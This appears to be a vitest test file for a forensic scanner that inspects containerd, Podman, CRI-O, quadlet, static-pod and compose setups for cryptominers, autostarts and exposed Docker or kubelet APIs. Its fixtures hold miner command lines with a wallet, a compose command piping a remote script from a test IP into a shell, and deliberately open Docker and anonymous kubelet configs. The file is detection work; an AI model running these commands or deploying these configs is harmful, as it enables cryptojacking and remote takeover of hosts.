import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { type Files, machineOf, runProbe } from '../../../tests/machine-tree.ts';
import { hasPeer } from '../../../tests/peer.ts';
import { podmanTables } from '../../../tests/podman-tables.ts';
import type { Probe } from '../../model/machine-units.ts';
import { compose } from './compose.ts';
import { containerDoors } from './container-doors.ts';
import { containerd } from './containerd.ts';
import { podman } from './podman.ts';
import { podmanQuadlets } from './podman-quadlets.ts';
import { staticPods } from './static-pods.ts';

const wallet = '888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoogDavup3H';
const id = 'ef56'.repeat(16);
const mining = ['/x', '-o', 'pool.example.com:3333', '-u', wallet, '--donate-level=1'];

function told(probe: Probe, files: Files): ReturnType<typeof runProbe> {
  return runProbe(probe, machineOf(files));
}

/** Kinds, whether they are only context, and why. */
function outline(probe: Probe, files: Files): unknown[] {
  return told(probe, files).flatMap((item) =>
    'kind' in item && 'why' in item.value ? [[item.kind, item.aside ?? false, ...item.value.why]] : [],
  );
}

function spec(words: readonly string[], more: object = {}): string {
  return JSON.stringify({
    ociVersion: '1.1.0',
    process: { args: words, env: ['PATH=/bin'] },
    root: { path: 'rootfs' },
    linux: { namespaces: [{ type: 'pid' }, { type: 'network' }, { type: 'mount' }] },
    ...more,
  });
}

describe('containers of containerd', () => {
  const place = `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${id}`;
  const annotations = {
    'io.kubernetes.cri.container-name': 'api',
    'io.kubernetes.cri.sandbox-name': 'api-0',
    'io.kubernetes.cri.sandbox-namespace': 'shop',
    'io.kubernetes.cri.image-name': 'docker.io/library/ubuntu:22.04',
  };

  it('tells of one that mines, and of its pod', () => {
    const files = { [`${place}/config.json`]: spec(mining, { annotations }) };
    expect(told(containerd, files)).toContainEqual(
      expect.objectContaining({
        kind: 'container',
        value: expect.objectContaining({
          name: 'api',
          owner: 'Pod/api-0',
          namespace: 'shop',
          mines: true,
          files: `${place}/rootfs`,
        }),
      }),
    );
  });
  it('keeps a pause container as context, and leaves those of Docker to Docker', () => {
    expect(outline(containerd, { [`${place}/config.json`]: spec(['/pause'], { annotations }) })).toEqual([
      ['container', true],
    ]);
    expect(outline(containerd, { [`${place.replace('k8s.io', 'moby')}/config.json`]: spec(mining) })).toEqual([]);
  });
  it('has the database examined where nothing runs', () => {
    const path = '/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db';
    expect(told(containerd, { [path]: 'x' })).toEqual([{ examine: path }]);
  });
  it('says that a description is no JSON', () => {
    expect(told(containerd, { [`${place}/config.json`]: '{' })).toContainEqual(
      expect.objectContaining({ gap: expect.objectContaining({ code: 'malformed' }) }),
    );
  });
});

describe('containers of Podman and CRI-O', () => {
  const root = '/home/ada/.local/share/containers/storage';
  const list = (metadata: object): Files => ({
    [`${root}/overlay-containers/containers.json`]: JSON.stringify([
      {
        id,
        names: ['web'],
        layer: 'aa11'.repeat(16),
        metadata: JSON.stringify(metadata),
        created: '2026-11-20T10:00:00Z',
      },
    ]),
  });

  it('joins the list, the description and the layer', () => {
    const files = {
      ...list({ 'image-name': 'docker.io/library/alpine:3', name: 'web' }),
      [`${root}/overlay-containers/${id}/userdata/config.json`]: spec(mining),
      [`${root}/overlay/${'aa11'.repeat(16)}/diff/usr/x`]: { content: 'x', mode: 0o755 },
    };
    const all = told(podman, files);
    expect(all).toContainEqual(
      expect.objectContaining({
        kind: 'container',
        value: expect.objectContaining({
          runtime: 'podman',
          name: 'web',
          image: 'docker.io/library/alpine:3',
          mines: true,
        }),
      }),
    );
    expect(all).toContainEqual({ examine: `${root}/overlay/${'aa11'.repeat(16)}/diff/usr/x` });
  });
  it.skipIf(!hasPeer('sqlite3', '-version'))(
    'knows from Podman’s database that it runs and starts again (skipped without sqlite3)',
    () => {
      const config = { name: 'web', restart_policy: 'always', spec: { process: { args: mining } } };
      const path = join(mkdtempSync(join(tmpdir(), 'davylamp-podman-')), 'db.sql');
      execFileSync('sqlite3', [path], { input: podmanTables([{ id, config, state: 3, startedTime: '' }]) });
      const root = '/home/ada/.local/share/containers/storage';
      const files = { '/etc/passwd': 'ada:x:1000:1000::/home/ada:/bin/sh\n', [`${root}/db.sql`]: readFileSync(path) };
      expect(told(podman, files)).toMatchObject([
        { kind: 'container', value: { name: 'web', state: 'running', restart: 'always', mines: true } },
        { kind: 'autostart', value: { mechanism: 'container' } },
        { kind: 'mining-config' },
        { examine: `${root}/db.sql` },
        { looked: { count: 1 } },
      ]);
    },
  );
  it('says that the older database is not read, and that a broken one is', () => {
    const root = '/var/lib/containers/storage';
    expect(told(podman, { [`${root}/libpod/bolt_state.db`]: 'x' })).toMatchObject([{ gap: { code: 'not-supported' } }]);
    expect(told(podman, { [`${root}/db.sql`]: 'x' })).toMatchObject([{ gap: { code: 'malformed' } }]);
    expect(told(podman, { [`${root}/db.sql`]: '' })).toEqual([]);
  });
  it('knows an image alone, and which runtime made it', () => {
    const files = list({ 'image-name': 'docker.io/metal3d/xmrig:latest', 'pod-name': 'p' });
    expect(told(podman, files)).toContainEqual(
      expect.objectContaining({
        value: expect.objectContaining({ runtime: 'cri-o', owner: 'Pod/p', why: ['miner-image'] }),
      }),
    );
  });
});

describe('units of containers', () => {
  it('tells of one that mines as an autostart', () => {
    const unit = `[Container]\nImage=docker.io/library/alpine\nExec=/x -o pool.example.com:3333 \\\n  -u ${wallet} --donate-level=1\n[Service]\nRestart=always\n`;
    expect(outline(podmanQuadlets, { '/home/ada/.config/containers/systemd/a.container': unit })).toEqual([
      ['container', false, 'mines', 'restarts-for-ever'],
      ['autostart', false, 'mines'],
    ]);
  });
  it('keeps an ordinary one as context', () => {
    expect(
      outline(podmanQuadlets, { '/etc/containers/systemd/db.container': '[Container]\nImage=postgres:16\n' }),
    ).toEqual([
      ['container', true],
      ['autostart', true],
    ]);
  });
});

describe('pods that a node starts by itself', () => {
  const manifest = (words: readonly string[]): string =>
    `apiVersion: v1\nkind: Pod\nmetadata:\n  name: sys\n  namespace: kube-system\nspec:\n  hostNetwork: true\n  containers:\n  - name: sys\n    image: alpine\n    command: ${JSON.stringify(words)}\n`;

  it('tells of one that mines, and leaves what it is told to the examination of its manifest', () => {
    const path = '/etc/kubernetes/manifests/kube-sys.yaml';
    expect(outline(staticPods, { [path]: manifest(mining) })).toEqual([['autostart', false, 'mines']]);
    expect(told(staticPods, { [path]: manifest(mining) })).toContainEqual({ examine: path });
  });
  it('finds the folder that the kubelet was told', () => {
    const files = { '/var/lib/kubelet/config.yaml': 'staticPodPath: /srv/pods/\n', '/srv/pods/a': manifest(mining) };
    expect(outline(staticPods, files)).toHaveLength(1);
  });
  it('keeps the API server and its like as context', () => {
    const words = [
      'kube-apiserver',
      '--advertise-address=10.0.0.1',
      '--secure-port=6443',
      '--etcd-servers=https://127.0.0.1:2379',
    ];
    expect(outline(staticPods, { '/etc/kubernetes/manifests/kube-apiserver.yaml': manifest(words) })).toEqual([
      ['container', true, 'restarts-for-ever'],
      ['autostart', true],
    ]);
  });
});

describe('compose files', () => {
  const file = (service: string): Files => ({ '/srv/app/docker-compose.yml': `services:\n  app:\n${service}` });

  it('tells of a service that mines, however its command is written', () => {
    for (const command of [
      `    command: xmrig -o pool.example.com:3333 -u ${wallet}\n`,
      `    command: ${JSON.stringify(mining)}\n`,
    ])
      expect(outline(compose, file(`    image: alpine\n    restart: always\n${command}`))).toEqual([
        ['container', false, 'mines', 'restarts-for-ever'],
      ]);
  });
  it('knows what a shell is given in one text', () => {
    const command = `    image: alpine\n    command: sh -c "wget -qO- http://198.51.100.7/x.sh | sh"\n`;
    expect(outline(compose, file(command))).toEqual([['container', false, 'fetches-and-runs']]);
  });
  it('says nothing of ordinary ones', () => {
    expect(
      outline(
        compose,
        file('    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD: x\n    ports: ["5432:5432"]\n'),
      ),
    ).toEqual([]);
  });
});

describe('open doors', () => {
  it('tells of an API of Docker on the network, however it was told', () => {
    const open: Files[] = [
      { '/etc/docker/daemon.json': '{"hosts": ["unix:///var/run/docker.sock", "tcp://0.0.0.0:2375"]}' },
      {
        '/etc/systemd/system/docker.service.d/override.conf':
          '[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H fd:// -H tcp://0.0.0.0:2375\n',
      },
      { '/etc/default/docker': 'DOCKER_OPTS="-H=tcp://10.0.0.4:2375"\n' },
    ];
    for (const files of open) expect(outline(containerDoors, files)).toEqual([['machine-setting', false, 'open-door']]);
  });
  it('is silent where certificates are asked for, or nobody else reaches it', () => {
    const shut: Files[] = [
      { '/etc/docker/daemon.json': '{"hosts": ["tcp://0.0.0.0:2376"], "tlsverify": true}' },
      { '/etc/docker/daemon.json': '{"hosts": ["tcp://127.0.0.1:2375"]}' },
      {
        '/lib/systemd/system/docker.service':
          '[Service]\nExecStart=/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock\n',
      },
      { '/etc/default/docker': '#DOCKER_OPTS="-H tcp://0.0.0.0:2375"\n' },
    ];
    for (const files of shut) expect(outline(containerDoors, files)).toEqual([]);
  });
  it('tells of a kubelet that asks nobody', () => {
    const path = '/var/lib/kubelet/config.yaml';
    const config = (anonymous: boolean): string =>
      `kind: KubeletConfiguration\nauthentication:\n  anonymous:\n    enabled: ${anonymous}\nauthorization:\n  mode: AlwaysAllow\n`;
    expect(outline(containerDoors, { [path]: config(true) })).toHaveLength(1);
    expect(outline(containerDoors, { [path]: config(false) })).toHaveLength(0);
  });
});

describe('what evades a first look', () => {
  const container = { name: 'c', image: 'busybox', command: mining };
  const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p' }, spec: { containers: [container] } };

  it('is a list of pods in a manifest', () => {
    const files = {
      '/var/lib/rancher/k3s/server/manifests/x.json': JSON.stringify({ items: [pod], kind: 'List', apiVersion: 'v1' }),
    };
    expect(told(staticPods, files)).toContainEqual(
      expect.objectContaining({ kind: 'autostart', value: expect.objectContaining({ mines: true }) }),
    );
  });
});
